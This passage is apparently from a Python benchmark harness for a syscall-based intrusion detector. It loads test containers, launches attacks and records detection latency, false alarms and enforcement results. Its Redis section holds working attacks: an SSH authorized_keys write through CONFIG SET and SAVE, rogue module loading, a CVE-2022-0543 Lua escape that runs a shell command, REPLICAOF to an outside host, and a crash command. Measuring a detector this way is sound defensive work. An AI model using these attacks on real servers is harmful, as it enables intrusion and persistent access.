        r = Resp(port, timeout)
    except OSError as e:
        return "connect: %s" % e
    try:
        return r.cmd(*args)
    except OSError as e:
        return "error: %s" % e
    finally:
        r.close()


class RedisService:
    name = "redis"
    image = "ngram-live-redis"
    port = 6379
    start_timeout = 60
    kind = "redis"
    LUA = "local n = redis.call('INCR', KEYS[1]); redis.call('EXPIRE', KEYS[1], 60); return n"

    def ready(self, port):
        return redis_cmd(port, "PING", timeout=5) == "PONG"

    def prepare(self, port):
        pass

    def one(self, rng):
        k = rng.randint(0, 999)
        c = rng.choices(range(14), [20, 12, 8, 5, 5, 5, 4, 4, 4, 3, 2, 2, 1, 1])[0]
        return [
            ("GET", "key:%d" % k),
            ("SET", "key:%d" % k, "v" * rng.randint(1, 300)),
            ("INCR", "counter:%d" % (k % 50)),
            ("LPUSH", "list:%d" % (k % 20), rng.choice(WORDS)),
            ("LRANGE", "list:%d" % (k % 20), 0, 9),
            ("HSET", "hash:%d" % (k % 100), rng.choice(WORDS), rng.randint(0, 1000)),
            ("HGETALL", "hash:%d" % (k % 100)),
            ("ZADD", "zset:%d" % (k % 10), rng.randint(0, 1000), rng.choice(WORDS)),
            ("ZRANGE", "zset:%d" % (k % 10), 0, 4, "WITHSCORES"),
            ("EXPIRE", "key:%d" % k, 120),
            ("MGET",) + tuple("key:%d" % rng.randint(0, 999) for _ in range(5)),
            ("DEL", "key:%d" % k),
            ("EVAL", self.LUA, 1, "rate:%d" % (k % 30)),
            ("LTRIM", "list:%d" % (k % 20), 0, 99),
        ][c]

    def load(self, port, secs, seed, clients, stop=None):
        stats = Stats()
        deadline = time.time() + secs
        # One redis-benchmark burst (pipelined) at the start of every load.
        bench = subprocess.Popen(["redis-benchmark", "-h", "127.0.0.1", "-p", str(port), "-q", "-n", "20000", "-c", "2",
                                  "-P", "8", "-r", "1000", "-t", "set,get,incr,lpush,lpop,sadd,hset"],
                                 stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)

        def client(k):
            rng = random.Random(seed * 100 + k)
            while time.time() < deadline and not (stop and stop.is_set()):
                try:
                    r = Resp(port)
                except OSError as e:
                    stats.fail("connect: %s" % e)
                    time.sleep(0.2)
                    continue
                try:
                    for _ in range(rng.randint(1, 200)):
                        if time.time() >= deadline or (stop and stop.is_set()):
                            break
                        if rng.random() < 0.1:
                            cmds = [self.one(rng) for _ in range(rng.randint(2, 20))]
                            replies = r.pipeline(cmds)
                        else:
                            cmds = [self.one(rng)]
                            replies = [r.cmd(*cmds[0])]
                        for c, rep in zip(cmds, replies):
                            if isinstance(rep, RedisError) and rep.startswith("READONLY"):
                                stats.side_effect()
                            elif isinstance(rep, RedisError) and not rep.startswith("WRONGTYPE"):
                                stats.fail("%s: %s" % (c[0], rep))
                            else:
                                stats.ok()
                except OSError as e:
                    stats.fail("connection: %s" % e)
                finally:
                    r.close()

        threads = [threading.Thread(target=client, args=(k,), daemon=True) for k in range(clients)]
        for t in threads:
            t.start()
        for t in threads:
            t.join(secs + 120)
        try:
            _, err = bench.communicate(timeout=120)
            if bench.returncode != 0 and "READONLY" in err:
                # The REPLICAOF attack made the server a read-only replica for a moment.
                stats.side_effect()
            elif bench.returncode != 0:
                stats.fail("redis-benchmark exit %d: %s" % (bench.returncode, err.strip()[-150:]))
        except subprocess.TimeoutExpired:
            bench.kill()
            stats.fail("redis-benchmark did not end")
        return stats

    def attacks(self, lst):
        def drop_file(port, c):
            path = "/var/lib/redis/.ssh/authorized_keys"
            r = Resp(port)
            try:
                out = [r.cmd("CONFIG", "SET", "dir", "/var/lib/redis/.ssh"), r.cmd("CONFIG", "SET", "dbfilename", "authorized_keys"),
                       r.cmd("SET", "live:payload", "\n\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIlive attacker@evil\n\n"), r.cmd("SAVE")]
                r.cmd("CONFIG", "SET", "dir", "/var/lib/redis")
                r.cmd("CONFIG", "SET", "dbfilename", "dump.rdb")
            finally:
                r.close()
            return created(c, path), repr(out)[:200]

        def module_load(port, c):
            # A real shared object whose RedisModule_OnLoad runs the attacker's code (it leaves
            # /tmp/module-ran) and then fails to register, as a rogue-master or upload attack
            # would drop it; staged with `docker cp` (not traced), loaded by MODULE LOAD (the
            # request: latency counts from it, not from the staging).
            so = module_object()
            sh(["docker", "cp", so, c + ":/var/lib/redis/mod.so"], timeout=60)
            request_sent()
            out = redis_cmd(port, "MODULE", "LOAD", "/var/lib/redis/mod.so")
            return created(c, "/tmp/module-ran"), repr(out)[:200]

        def lua_shell(port, c):
            # CVE-2022-0543 (Debian's Lua exposing package.loadlib): a shell from EVAL.
            script = ('local f = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); '
                      'local io = f(); local p = io.popen("id", "r"); local r = p:read("*a"); p:close(); return r')
            out = redis_cmd(port, "EVAL", script, 0)
            return "uid=" in str(out), repr(out)[:200]

        def outbound(port, c):
            t0 = now_ns()
            out = redis_cmd(port, "REPLICAOF", lst.host, lst.port)
            time.sleep(1.5)
            redis_cmd(port, "REPLICAOF", "NO", "ONE")
            return bool(lst.since(t0)), repr(out)[:200]

        def debug_segfault(port, c):
            out = redis_cmd(port, "DEBUG", "SEGFAULT", timeout=10)
            time.sleep(1)
            return not self.ready(port), repr(out)[:200]

        return [("drop-file", drop_file, False), ("module-load", module_load, False), ("lua-shell", lua_shell, False),
                ("outbound", outbound, False), ("debug-segfault", debug_segfault, True)]


def service(name):
    if name == "postgres":
        return PostgresService()
    if name == "redis":
        return RedisService()
    return {"nginx": NginxService, "python": AppService, "go": GoService, "apache": ApacheService,
            "tomcat": TomcatService, "node": AppService}[name](name)


# ---------------------------------------------------------------------------------------------
# The protocol


def wait_ready(svc, name, port, timeout):
    """None when the service answers; else why not."""
    deadline = time.time() + timeout
    while time.time() < deadline:
        if svc.ready(port):
            return None
        if not running(name):
            return "exited before it answered (%s)" % exit_status(name)
        time.sleep(0.5)
    return "no answer within %ds" % timeout


def exit_status(name):
    _, out, _ = sh(["docker", "inspect", "-f", "exit code {{.State.ExitCode}} {{.State.Error}}", name], check=False, timeout=30)
    _, logs, errs = sh(["docker", "logs", "--tail", "2", name], check=False, timeout=30)
    tail = " | ".join((logs + errs).strip().splitlines()[-2:])
    return out.strip() + ((", log: " + tail[:200]) if tail else "")


def start(svc, phase, runtime, profile, cfg):
    name = "live-%s-%s-%s" % (svc.name, phase, RUN_ID)
    docker_rm(name)
    cid, err = docker_run(name, runtime, svc.image, svc.port, profile)
    if cid is None:
        return name, None, None, "docker run failed: " + err
    try:
        port = host_port(name, svc.port)
    except (HarnessError, IndexError, ValueError):
        return name, cid, None, "no published port (running: %s)" % running(name)
    why = wait_ready(svc, name, port, svc.start_timeout)
    return name, cid, port, why


# When an attack stages something first (builds or copies a file with tools that are not
# traced), it calls request_sent() right before its request: latency counts from there.
_REQUEST = {"t0": None}


def request_sent():
    _REQUEST["t0"] = now_ns()


def run_attacks(svc, name, cid, port, lst, cfg, result, destructive):
    for aname, fn, is_destructive in svc.attacks(lst):
        if is_destructive != destructive:
            continue
        _REQUEST["t0"] = None
        t0 = now_ns()
        try:
            effect, evidence = fn(port, name)
        except (OSError, http.client.HTTPException, HarnessError) as e:
            effect, evidence = False, "request failed: %s" % e
        t0 = _REQUEST["t0"] or t0
        found = []
        deadline = time.time() + cfg["alert_timeout"]
        while time.time() < deadline:
            found = [a for a in alerts_of(cid) if a.get("evt.time", 0) >= t0]
            if found:
                time.sleep(0.5)
                found = [a for a in alerts_of(cid) if a.get("evt.time", 0) >= t0]
                break
            time.sleep(0.2)
        first = found[0] if found else None
        latency = round((first["evt.time"] - t0) / 1e6, 2) if first else None
        entry = {"attack": aname, "detected": latency is not None and latency <= cfg["detect_ms"],
                 "late": latency is not None and latency > cfg["detect_ms"], "effect": effect, "alerts": len(found),
                 "latency_ms": latency,
                 # The supervisor's own time from seeing the call to the alert (the rest of
                 # latency_ms is the service reaching that call, e.g. forking a backend).
                 "decision_us": round(first.get("ngram.latency_ns", 0) / 1e3, 1) if first else None,
                 "denied": sum(1 for a in found if a.get("ngram.action") == "denied"),
                 "first_alert": alert_sample(first) if first else None, "evidence": evidence}
        result.append(entry)
        log("  %-15s detected=%s latency=%s ms effect=%s alerts=%d%s" % (
            aname, entry["detected"], entry["latency_ms"], effect, len(found),
            (" first: " + alert_brief(first)) if first else ""))


def profile_name(service):
    return os.environ.get("LIVE_PROFILE_PREFIX", "live-") + service


def run_service(svc, cfg, lst):
    profile = profile_name(svc.name)
    res = {"service": svc.name, "image": svc.image, "profile": profile, "errors": [], "notes": []}
    rc, out, _ = sh(["docker", "image", "inspect", "-f", "{{.Id}}", svc.image], check=False)
    if rc != 0:
        raise HarnessError("image %s is missing (bench/live/build-images.sh builds it)" % svc.image)
    res["image_id"] = out.strip()[:19]
    profile_rm(profile)

    # 1. Training: one container, LIVE_TRAIN_RUNS start/load/stop cycles.
    log("%s: training, %d runs x %ds" % (svc.name, cfg["train_runs"], cfg["train_secs"]))
    t_train = time.time()
    train = {"runs": [], "secs_per_run": cfg["train_secs"]}
    name = None
    for run in range(1, cfg["train_runs"] + 1):
        if run == 1:
            name, cid, port, err = start(svc, "train", TRAIN_RT, profile, cfg)
        else:
            sh(["docker", "start", name], timeout=120)
            port = host_port(name, svc.port)
            err = wait_ready(svc, name, port, svc.start_timeout)
        if err:
            raise HarnessError("%s does not start under %s: %s" % (svc.name, TRAIN_RT, err))
        svc.prepare(port)
        st = svc.load(port, cfg["train_secs"], cfg["seed"] * 1000 + run, cfg["clients"])
        docker_stop(name)
        deadline = time.time() + 90
        meta = None
        while time.time() < deadline:
            meta = profile_show(profile)
            if meta and meta.get("runs", 0) >= run:
                break
            time.sleep(0.5)
        else:
            # What the supervisor said about it (a failed merge is written to the alert log).
            # Recorded as an error of the service, and training stops there: the measurement
            # goes on with the runs that merged (seen twice this way, unexplained yet: the
            # second run of redis after python and go in one harness run).
            said = [l for l in read_alert_lines() if name in l and "ngram-ids training merge failed" in l]
            msg = "training run %d was not merged within 90 s (profile runs %s; %s)" % (
                run, (meta or {}).get("runs"),
                json.loads(said[-1]).get("output") if said else "no merge failure in the alert log")
            log("  " + msg)
            res["errors"].append(msg)
            if not meta:
                raise HarnessError("profile %s does not exist after training: %s" % (profile, msg))
            break
        train["runs"].append({"run": run, "load": st.json(), "calls": meta.get("calls"), "p0": meta.get("p0")})
        log("  run %d: %d requests (%d failed); profile calls %s P0 %s" % (run, st.requests, st.failed, meta.get("calls"), fmt_num(meta.get("p0"))))
    docker_rm(name)
    train["wall_secs"] = round(time.time() - t_train, 1)
    meta = profile_show(profile) or {}
    train["profile"] = {k: meta.get(k) for k in ("runs", "calls", "ngrams", "distinct", "p0", "n", "mode", "calibration")}
    train["profile"]["extra"] = {k: v for k, v in meta.items() if k not in ("syscalls", "p0_history", "counts")
                                 and k not in train["profile"] and not isinstance(v, (list, dict))}
    res["train"] = train

    # 2. Held-out normal load in alert mode, then the attacks.
    log("%s: alert mode, %ds held-out load" % (svc.name, cfg["heldout_secs"]))
    name, cid, port, err = start(svc, "alert", ALERT_RT, profile, cfg)
    alert = {"heldout_secs": cfg["heldout_secs"]}
    res["alert"] = alert
    if err:
        alert["start_error"] = err
        res["errors"].append("alert mode: " + err)
    else:
        svc.prepare(port)
        t_load = now_ns()
        st = svc.load(port, cfg["heldout_secs"], cfg["seed"] * 1000 + 501, cfg["clients"])
        t_end = now_ns()
        # How near the threads came to the thresholds in the held-out load (peak windows per
        # level, 0.0-1.0: settled excursions, and young start-ups per program).
        alert["peaks"] = (status_of(cid) or {}).get("peaks", {})
        time.sleep(1)
        fa = [a for a in alerts_of(cid) if a.get("evt.time", 0) <= t_end]
        during = [a for a in fa if a.get("evt.time", 0) >= t_load]
        alert.update({"load": st.json(), "false_alarms": len(fa), "false_alarms_during_load": len(during),
                      "false_alarms_startup": len(fa) - len(during),
                      "false_alarms_per_hour": round(len(during) * 3600.0 / max(1, cfg["heldout_secs"]), 1),
                      "false_alarm_samples": [alert_sample(a) for a in fa[:8]],
                      "false_alarm_programs": sorted({a.get("proc.exepath") or "?" for a in fa})})
        log("  %d requests (%d failed); false alarms: %d (start-up %d, load %d)" % (
            st.requests, st.failed, len(fa), len(fa) - len(during), len(during)))
        for a in fa[:5]:
            log("    FA " + alert_brief(a))
        alert["attacks"] = []
        run_attacks(svc, name, cid, port, lst, cfg, alert["attacks"], False)
        run_attacks(svc, name, cid, port, lst, cfg, alert["attacks"], True)
        alert["still_running"] = running(name)
    docker_stop(name)
    docker_rm(name)

    # 3. Enforce mode: normal load with the attacks meanwhile.
    log("%s: enforce mode, %ds load with the attacks" % (svc.name, cfg["enforce_secs"]))
    name, cid, port, err = start(svc, "enforce", ENFORCE_RT, profile, cfg)
    enf = {"load_secs": cfg["enforce_secs"]}
    res["enforce"] = enf
    if err:
        enf["start_error"] = err
        enf["service_down"] = True
        log("  service did not come up in enforce mode: " + err)
    else:
        try:
            svc.prepare(port)
        except HarnessError as e:
            enf["prepare_error"] = str(e)
        box = {}
        t_load = now_ns()

        def bg():
            box["stats"] = svc.load(port, cfg["enforce_secs"], cfg["seed"] * 1000 + 777, cfg["clients"])

        loader = threading.Thread(target=bg, daemon=True)
        loader.start()
        time.sleep(min(10, cfg["enforce_secs"] / 4))
        enf["attacks"] = []
        run_attacks(svc, name, cid, port, lst, cfg, enf["attacks"], False)
        loader.join(cfg["enforce_secs"] + 600)
        st = box.get("stats") or Stats()
        t_end = now_ns()
        enf["load"] = st.json()
        enf["load_secs_actual"] = round((t_end - t_load) / 1e9, 1)
        all_alerts = alerts_of(cid)
        enf["alerts"] = len(all_alerts)
        enf["denied"] = sum(1 for a in all_alerts if a.get("ngram.action") == "denied")
        enf["alerts_before_attacks"] = [alert_sample(a) for a in all_alerts if a.get("evt.time", 0) < t_load + int(min(10, cfg["enforce_secs"] / 4) * 1e9)][:5]
        enf["still_running"] = running(name)  # before the attacks that kill the service
        run_attacks(svc, name, cid, port, lst, cfg, enf["attacks"], True)
        log("  normal requests %d, failed %d; alerts %d (denied %d); running %s" % (
            st.requests, st.failed, len(all_alerts), enf["denied"], enf["still_running"]))
        for s in st.samples[:3]:
            log("    failed: " + s)
    docker_stop(name)
    docker_rm(name)
    if not cfg["keep_profiles"]:
        profile_rm(profile)
    return res


# ---------------------------------------------------------------------------------------------
# Report


def table(results):
    rows = ["| service | training calls (time) | runs | P0 | held-out min | false alarms (per h) | attacks detected (latency ms) | enforce: effect happened / attacks that work | enforce: failed normal requests |",
            "| --- | --- | --- | --- | --- | --- | --- | --- | --- |"]
    for r in results:
        if "train" not in r:
            rows.append("| %s | harness error: %s | | | | | | | |" % (r["service"], "; ".join(r["errors"])[:150]))
            continue
        t = r["train"]
        p = t["profile"]
        a = r.get("alert", {})
        e = r.get("enforce", {})
        calls = "%s (%d x %ds)" % (fmt_int(p.get("calls")), len(t["runs"]), t["secs_per_run"])
        if "false_alarms" in a:
            fa = "%d (%s/h; %d at start-up)" % (a["false_alarms"], a["false_alarms_per_hour"], a["false_alarms_startup"])
            atk = a.get("attacks", [])
            # A miss whose attack did not work in alert mode either (its control failed, e.g.
            # a CVE this version has fixed) says so: a harmless attempt, not a working attack.
            det = "%d/%d: %s" % (sum(x["detected"] for x in atk), len(atk), ", ".join(
                "%s %s" % (x["attack"], ("%.0f" % x["latency_ms"]) if x["detected"] else
                           ("late %.0f" % x["latency_ms"]) if x.get("late") else
                           "no" if x["effect"] else "no (did not work)") for x in atk))
        else:
            fa = det = "did not start: " + a.get("start_error", "?")
        if "attacks" in e:
            worked = {x["attack"] for x in a.get("attacks", []) if x["effect"]}
            eff = [x for x in e["attacks"] if x["effect"]]
            effect = "%d/%d%s" % (len(eff), len(worked) if worked else len(e["attacks"]),
                                  (": " + ", ".join(x["attack"] for x in eff)) if eff else "")
            ld = e.get("load", {})
            failed = "%d of %d" % (ld.get("failed", 0), ld.get("requests", 0))
            # The enforce load's rate against alert mode's: a service enforce slowed or stopped
            # shows here even when few requests failed (pgbench stops a client at its first error).
            al = a.get("load", {})
            if al.get("requests") and e.get("load_secs") and a.get("heldout_secs"):
                rate = (ld.get("requests", 0) / e["load_secs"]) / (al["requests"] / a["heldout_secs"])
                failed += " (rate %.0f%% of alert mode's)" % (100 * rate)
            if e.get("still_running") is False and not any(x["attack"] == "debug-segfault" for x in e.get("attacks", [])):
                failed += "; container exited"
        else:
            effect = "-"
            failed = "service down: " + e.get("start_error", "?")
        rows.append("| %s | %s | %s | %s | %.1f | %s | %s | %s | %s |" % (
            r["service"] + (" (errors: see the details)" if r.get("errors") else ""), calls, p.get("runs"),
            fmt_num(p.get("p0")), a.get("heldout_secs", 0) / 60.0, fa, det, effect, failed))
    return "\n".join(rows)


def fmt_int(x):
    return "{:,}".format(x) if isinstance(x, int) else str(x)


def details(results):
    out = []
    for r in results:
        a = r.get("alert", {})
        out.append("- **%s**: " % r["service"] + "; ".join(filter(None, [
            ("controls (attack worked in alert mode): %s" % ", ".join("%s %s" % (x["attack"], "yes" if x["effect"] else "no") for x in a.get("attacks", []))) if a.get("attacks") else "",
            ("false alarms by program: %s" % ", ".join(a["false_alarm_programs"])) if a.get("false_alarm_programs") else "",
            ("errors: %s" % "; ".join(r["errors"])) if r["errors"] else "",
            ("notes: %s" % "; ".join(r["notes"])) if r.get("notes") else ""])))
        for s in a.get("false_alarm_samples", [])[:4]:
            out.append("  - FA `%s` [%s] p %s window %s (%s)" % (
                s.get("proc.exepath"), " ".join(s.get("ngram.syscalls") or []), fmt_num(s.get("ngram.probability")),
                fmt_num(s.get("ngram.window_score")), s.get("ngram.action")))
    return "\n".join(out)


def write_doc(path, section, header, results, json_path):
    begin, end = "<!-- live:%s:begin -->" % section, "<!-- live:%s:end -->" % section
    block = "%s\n%s\n\n%s\n\n%s\n\nRaw results: `%s`.\n%s" % (begin, header, table(results), details(results),
                                                           os.path.relpath(json_path, REPO), end)
    text = open(path).read() if os.path.exists(path) else "# Live evaluation\n"
    if begin in text and end in text:
        pre, rest = text.split(begin, 1)
        post = rest.split(end, 1)[1]
        text = pre + block + post
    else:
        text = text.rstrip("\n") + "\n\n" + block + "\n"
    with open(path + ".tmp", "w") as f:
        f.write(text)
    os.replace(path + ".tmp", path)


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--short", action="store_true")
    ap.add_argument("--services")
    ap.add_argument("--no-build", action="store_true")
    ap.add_argument("--doc-section")
    ap.add_argument("--report", metavar="JSON", nargs="+", help="only re-render results files into the document")
    args = ap.parse_args()
    if args.report:
        report(args.report, os.environ.get("LIVE_DOC") or os.path.join(REPO, "docs", "evaluation-live.md"), args.doc_section)
        return
    d = dict(services=SHORT, train_runs=2, train_secs=25, heldout_secs=45, enforce_secs=30, alert_timeout=3) if args.short \
        else dict(services=ALL, train_runs=3, train_secs=120, heldout_secs=600, enforce_secs=120, alert_timeout=10)
    env = os.environ.get

    def num(k, default):
        try:
            return int(env(k, default))
        except ValueError:
            print("run.py: error: %s must be an integer" % k, file=sys.stderr)
            sys.exit(2)

    services = (args.services or env("LIVE_SERVICES") or ",".join(d["services"])).split(",")
    bad = [s for s in services if s not in ALL]
    if bad:
        print("run.py: error: unknown service(s) %s (known: %s)" % (",".join(bad), ",".join(ALL)), file=sys.stderr)
        sys.exit(2)
    cfg = {"services": services, "train_runs": num("LIVE_TRAIN_RUNS", d["train_runs"]),
           "train_secs": num("LIVE_TRAIN_SECS", d["train_secs"]), "heldout_secs": num("LIVE_HELDOUT_SECS", d["heldout_secs"]),
           "enforce_secs": num("LIVE_ENFORCE_SECS", d["enforce_secs"]), "clients": num("LIVE_CLIENTS", 4),
           "alert_timeout": num("LIVE_ALERT_TIMEOUT", d["alert_timeout"]), "seed": num("LIVE_SEED", 1),
           "detect_ms": num("LIVE_DETECT_MS", 1000),
           "keep_profiles": env("LIVE_KEEP_PROFILES", "0") == "1", "short": args.short}
    if os.geteuid() != 0:
        print("run.py: error: must run as root (docker, the profile store)", file=sys.stderr)
        sys.exit(2)
    results_dir = env("LIVE_RESULTS_DIR") or os.path.join(REPO, "bench", "results")
    doc = env("LIVE_DOC", os.path.join(REPO, "docs", "evaluation-live.md"))
    section = args.doc_section or env("LIVE_DOC_SECTION") or ("short" if args.short else "full")

    def on_signal(sig, frame):
        raise KeyboardInterrupt

    signal.signal(signal.SIGTERM, on_signal)
    harness_failed = False
    results = []
    started = datetime.datetime.now(datetime.timezone.utc)
    try:
        setup_host(services)
        if not args.no_build:
            rc = subprocess.run([os.path.join(HERE, "build-images.sh")] + services).returncode
            if rc != 0:
                raise HarnessError("bench/live/build-images.sh failed (%d)" % rc)
        cleanup_all()
        lst = Listener()
        for name in services:
            svc = service(name)
            t0 = time.time()
            try:
                r = run_service(svc, cfg, lst)
            except HarnessError as e:
                log("%s: HARNESS ERROR: %s" % (name, e))
                harness_failed = True
                r = {"service": name, "errors": [str(e)]}
                for c in list(CONTAINERS):
                    docker_rm(c)
                if not cfg["keep_profiles"]:
                    profile_rm(profile_name(name))
            r["wall_secs"] = round(time.time() - t0, 1)
            results.append(r)
    except HarnessError as e:
        log("HARNESS ERROR: %s" % e)
        harness_failed = True
    except KeyboardInterrupt:
        log("interrupted; cleaning up")
        harness_failed = True
    finally:
        for c in list(CONTAINERS):
            docker_rm(c)
        if not cfg["keep_profiles"]:
            for name in services:
                profile_rm(profile_name(name))
    rc, ver, _ = sh([ids_bin(), "--version"], check=False)
    _, bsha, _ = sh(["sha256sum", ids_bin()], check=False)
    rc2, commit, _ = sh(["git", "-C", REPO, "rev-parse", "--short", "HEAD"], check=False)
    meta = {"started": started.isoformat(timespec="seconds"), "config": cfg, "commit": commit.strip() if rc2 == 0 else None,
            "ngram_ids_version": ver.strip() if rc == 0 else None, "binary_sha256": bsha[:12], "host_cpus": os.cpu_count(),
            "binary_mtime": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(os.path.getmtime(ids_bin()))),
            "loadavg_at_end": open("/proc/loadavg").read().split()[:3], "kernel": os.uname().release}
    os.makedirs(results_dir, exist_ok=True)
    stamp = started.strftime("%Y-%m-%dT%H%M%SZ")
    json_path = os.path.join(results_dir, "live-%s.json" % stamp)
    with open(json_path, "w") as f:
        json.dump({"meta": meta, "results": results}, f, indent=1)
    log("results: " + json_path)
    print(table(results))
    if doc:
        write_doc(doc, section, header_of(meta, section, stamp), results, json_path)
        log("table written to %s (section %s)" % (doc, section))
    sys.exit(1 if harness_failed else 0)


def header_of(meta, section, stamp):
    cfg = meta["config"]
    return ("### Run %s (%s): HEAD %s, %s (binary sha256 %s, built %s); %d CPUs; train %d x %ds, held-out %ds, "
            "enforce %ds, %d clients, seed %d" % (
                stamp, section, meta["commit"], meta["ngram_ids_version"], meta.get("binary_sha256"), meta.get("binary_mtime"),
                meta["host_cpus"], cfg["train_runs"], cfg["train_secs"], cfg["heldout_secs"], cfg["enforce_secs"],
                cfg["clients"], cfg["seed"]))


def report(paths, doc, section):
    """Re-renders results files into a section of the document (--report); with several files,
    a service's results come from the last file that has them, the header from the first."""
    data = json.load(open(paths[0]))
    path = paths[0]
    order = [r["service"] for r in data["results"]]
    by = {r["service"]: r for r in data["results"]}
    for p in paths[1:]:
        more = json.load(open(p))
        for r in more["results"]:
            if r["service"] not in by:
                order.append(r["service"])
            r.setdefault("notes", []).append("from %s (%s)" % (os.path.relpath(p, REPO), more["meta"].get("started")))
            by[r["service"]] = r
    data["results"] = [by[s] for s in order]
    meta = data["meta"]
    cfg = meta["config"]
    cfg.setdefault("detect_ms", 1000)
    for r in data["results"]:
        for phase in ("alert", "enforce"):
            for x in r.get(phase, {}).get("attacks", []):
                lat = x.get("latency_ms")
                x["detected"] = lat is not None and lat <= cfg["detect_ms"]
                x["late"] = lat is not None and lat > cfg["detect_ms"]
    stamp = os.path.basename(path)[len("live-"):-len(".json")]
    section = section or ("short" if cfg.get("short") else "full")
    write_doc(doc, section, header_of(meta, section, stamp), data["results"], os.path.abspath(path))
    if len(paths) > 1:
        with open(doc) as f:
            text = f.read()
        rel = ", ".join("`%s`" % os.path.relpath(os.path.abspath(p), REPO) for p in paths)
        text = text.replace("Raw results: `%s`." % os.path.relpath(os.path.abspath(path), REPO), "Raw results: %s (a service's row from the last file that has it)." % rel)
        with open(doc, "w") as f:
            f.write(text)
    print(table(data["results"]))


def setup_host(services):
    """The host tools the load drivers and attacks use (Debian packages)."""
    need = {"docker": None, "psql": "postgresql-client", "pgbench": "postgresql-client", "redis-benchmark": "redis-tools",
            "go": "golang-go", "mmdebstrap": "mmdebstrap"}
    wanted = {"docker", "mmdebstrap"}
    if "postgres" in services:
        wanted |= {"psql", "pgbench"}
    if "redis" in services:
        wanted.add("redis-benchmark")
    if "go" in services:
        wanted.add("go")
    missing = sorted({need[t] for t in wanted if shutil.which(t) is None and need[t]})
    if shutil.which("docker") is None:
        raise HarnessError("docker is missing (make install)")
    if not os.path.exists(ids_bin()):
        raise HarnessError("ngram-ids is not installed (make install)")
    if missing:
        log("installing " + " ".join(missing))
        sh(["apt-get", "update", "-qq"], timeout=600)
        sh(["apt-get", "install", "-y", "-qq", "--no-install-recommends"] + missing, timeout=1200)
    rc, out, _ = sh(["docker", "info", "--format", "{{json .Runtimes}}"], timeout=60)
    for r in (TRAIN_RT, ALERT_RT, ENFORCE_RT):
        if '"%s"' % r not in out:
            raise HarnessError("dockerd has no %s runtime (scripts/register.sh registers it)" % r)


if __name__ == "__main__":
    main()
